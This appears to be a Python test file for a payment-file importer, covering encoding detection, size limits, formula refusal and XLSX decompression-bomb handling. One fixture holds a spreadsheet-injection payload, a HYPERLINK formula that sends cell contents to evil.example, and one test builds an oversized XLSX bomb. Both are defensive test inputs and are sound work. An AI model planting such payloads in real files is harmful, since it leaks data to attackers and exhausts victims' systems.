"""The payment import is held to the case import's rules: a bounded rejection report, Big5 and
Shift-JIS refused unless the encoding is declared, formulas refused, XLSX bombs stopped."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal

import pytest
from sqlalchemy import func, select

from dialer.imports.limits import LIMITS, ImportTooLarge
from dialer.imports.models import ImportBatch
from dialer.kit.errors import ImportRejected
from dialer.notes.models import Payment
from scheduling.payment_rows import PaymentRow, parse_payment_file
from scheduling.payments import import_payment_file, import_payments
from tests.factories import make_case, make_client
from tests.imports_hardening.xlsx_files import repeated, row, xlsx
from tests.scheduling.helpers import SH, sh

NOW = sh(2026, 11, 26, 9)
HEADER = "account_ref,amount,paid_at,reference"
PAYERS = ("陳大文", "黃志明", "林美玲", "張家豪")  # traditional names: what makes a file Big5 rather than ASCII


def payer_file(encoding: str, names: tuple[str, ...] = PAYERS) -> bytes:
    """A traditional-Chinese bank's file: its own headers, a payer column (not ours: ignored) and
    references in Chinese."""
    lines = ["帳號,付款人,還款金額,還款時間,流水號"] + [
        f"ACC-1,{name},100.00,2026-11-25 0{n}:00,國泰-{n:04d}" for n, name in enumerate(names)
    ]
    return ("\n".join(lines) + "\n").encode(encoding)


def sjis_file(names: tuple[str, ...] = ("山田太郎", "佐藤花子", "鈴木一郎")) -> bytes:
    """A Japanese bank's file: our headers, and a payer column with the names in Shift-JIS."""
    lines = [HEADER + ",payer"] + [f"ACC-1,10.00,2024-03-0{n + 1},SJ-{n},{name}" for n, name in enumerate(names)]
    return ("\n".join(lines) + "\n").encode("shift_jis")


async def _stored(session) -> tuple[int, int]:
    return (await session.scalar(select(func.count()).select_from(Payment)),
            await session.scalar(select(func.count()).select_from(ImportBatch)))


async def test_given_ten_thousand_bad_rows_then_fifty_of_each_kind_are_listed_and_every_one_counted(session):
    client = await make_client(session)
    await make_case(session, client=client, account_ref="ACC-1")
    lines = [HEADER] + [  # odd lines: an amount that is no number; even ones: an account the client lacks
        f"NOPE-{n},{'abc' if n % 2 else '10.00'},2026-11-25 09:00,TX-{n}" for n in range(10_000)
    ]

    with pytest.raises(ImportRejected) as rejected:
        await import_payment_file(session, client_id=client.id, filename="bad.csv",
                                  content="\n".join(lines).encode(), actor=None, now=NOW)

    body = rejected.value.body()
    assert body["detail"] == ("10000 payment rows rejected in bad.csv; nothing was imported "
                              "(the first 50 errors of each kind are listed)")
    assert body["error_counts"] == {"account_ref": 5000, "amount": 5000} and body["errors_total"] == 10_000
    assert len(body["errors"]) == 100
    assert [(e["line"], e["column"]) for e in body["errors"][:4]] == [(2, "account_ref"), (3, "amount"),
                                                                      (4, "account_ref"), (5, "amount")]
    assert await _stored(session) == (0, 0)


async def test_given_bad_rows_sent_by_api_then_the_first_is_counted_as_a_row_not_a_header(session):
    client = await make_client(session)
    rows = [PaymentRow(n, f"NOPE-{n}", Decimal("1.00"), sh(2026, 11, 25, 9), f"TX-{n}") for n in (1, 2)]

    with pytest.raises(ImportRejected) as rejected:
        await import_payments(session, client_id=client.id, rows=rows, filename="api", content=b"x", actor=None,
                              now=NOW)

    assert rejected.value.detail == "2 payment rows rejected in api; nothing was imported"
    assert rejected.value.body()["error_counts"] == {"account_ref": 2}


@pytest.mark.parametrize(("content", "looks_like"), [(payer_file("big5"), "big5"), (sjis_file(), "cp932")])
def test_given_a_big5_or_shift_jis_file_then_refused_naming_it(content, looks_like):
    parsed = parse_payment_file("payments.csv", content, SH)

    assert parsed.rows == ()
    [error] = parsed.errors
    assert (error.line, error.column) == (1, None)
    assert error.reason.startswith("cannot read the text: it is neither UTF-8 nor GB18030")
    assert f"looks like {looks_like}" in error.reason and "declare its encoding" in error.reason


async def test_given_a_big5_file_then_refused_and_with_its_encoding_declared_imported_as_written(session):
    client = await make_client(session)
    await make_case(session, client=client, account_ref="ACC-1")
    content = payer_file("big5")

    with pytest.raises(ImportRejected) as rejected:
        await import_payment_file(session, client_id=client.id, filename="還款.csv", content=content, actor=None,
                                  now=NOW)
    assert "neither UTF-8 nor GB18030 (it looks like big5)" in rejected.value.detail
    assert await _stored(session) == (0, 0)

    result = await import_payment_file(session, client_id=client.id, filename="還款.csv", content=content,
                                       actor=None, now=NOW, encoding="big5")

    assert result.created["payments"] == 4
    payments = (await session.scalars(select(Payment).order_by(Payment.paid_at))).all()
    assert [(p.reference, p.amount, p.paid_at) for p in payments] == [
        (f"國泰-{n:04d}", Decimal("100.00"), sh(2026, 11, 25, n)) for n in range(4)
    ]


async def test_given_a_shift_jis_upload_then_422_and_with_the_encoding_field_201(api, headers, app):
    async with app.state.container.sessions() as s:
        client = await make_client(s)
        await make_case(s, client=client, account_ref="ACC-1")
        await s.commit()
    upload = {"file": ("sjis.csv", sjis_file(), "text/csv")}
    url = f"/v1/clients/{client.id}/imports/payments"

    refused = await api.post(url, files=upload, headers=headers["integration"])
    accepted = await api.post(url, files=upload, data={"encoding": "shift_jis"}, headers=headers["integration"])
    unknown = await api.post(url, files=upload, data={"encoding": "klingon"}, headers=headers["integration"])

    assert refused.status_code == 422 and "neither UTF-8 nor GB18030" in refused.json()["detail"]
    assert accepted.status_code == 201, accepted.text
    assert accepted.json()["created"] == {"payments": 3, "duplicates": 0, "matched_to_promise": 0}
    assert unknown.status_code == 422 and unknown.json()["errors"] == [{
        "line": 1, "column": None, "reason": "unknown encoding 'klingon' (e.g. utf-8, gb18030, big5, shift_jis)"}]


async def test_given_an_upload_over_the_case_imports_cap_then_413_names_the_limit(api, headers, app):
    async with app.state.container.sessions() as s:
        client = await make_client(s)
        await s.commit()
    huge = b"x" * (LIMITS.upload_bytes + 1)

    response = await api.post(f"/v1/clients/{client.id}/imports/payments", headers=headers["admin"],
                              files={"file": ("huge.csv", huge, "text/csv")})

    assert response.status_code == 413
    assert response.json() == {"error": "import_too_large", "detail": "the upload is larger than 20 MiB",
                               "limit": "upload_bytes", "maximum": LIMITS.upload_bytes}


def test_given_formulas_in_text_columns_then_each_is_refused_with_its_line_and_column():
    content = (
        f"{HEADER}\n"
        "ACC-1,10.00,2026-11-25,TX-1\n"
        'ACC-1,10.00,2026-11-25,"=HYPERLINK(""http://evil.example/?""&A2,""x"")"\n'
        "@SUM(1),10.00,2026-11-25,TX-3\n"
        "ACC-1,-10.00,2026-11-25,TX-4\n"
    ).encode()

    parsed = parse_payment_file("payments.csv", content, SH)

    assert [(e.line, e.column) for e in parsed.errors] == [(3, "reference"), (4, "account_ref"), (5, "amount")]
    assert "starts like a spreadsheet formula ('=')" in parsed.errors[0].reason
    assert parsed.errors[2].reason == "amount '-10.00' is negative"  # a number, not a formula
    assert [r.reference for r in parsed.rows] == ["TX-1"]


def test_given_an_xlsx_bomb_then_it_is_refused_before_openpyxl_opens_it():
    cell = b'<c t="inlineStr"><is><t>x</t></is></c>'
    bomb = xlsx([row(1, "account_ref", "amount", "paid_at", "reference"), b'<row r="2">',
                 *repeated(cell, 8 * 1024 * 1024), b"</row>"])

    with pytest.raises(ImportTooLarge) as refused:
        parse_payment_file("payments.xlsx", bomb, SH)

    assert refused.value.extra["limit"] == "ratio" and refused.value.status == 413


def test_given_an_xlsx_payment_file_then_read_like_a_csv():
    sheet = xlsx([row(1, "账号", "还款金额", "还款时间", "流水号"), row(2, "ACC-1", "88.50", "2026-11-25 10:30", "X-1")])

    parsed = parse_payment_file("payments.xlsx", sheet, SH)

    assert parsed.errors == ()
    assert parsed.rows == (PaymentRow(2, "ACC-1", Decimal("88.50"), dt.datetime(2026, 11, 25, 10, 30, tzinfo=SH), "X-1"),)
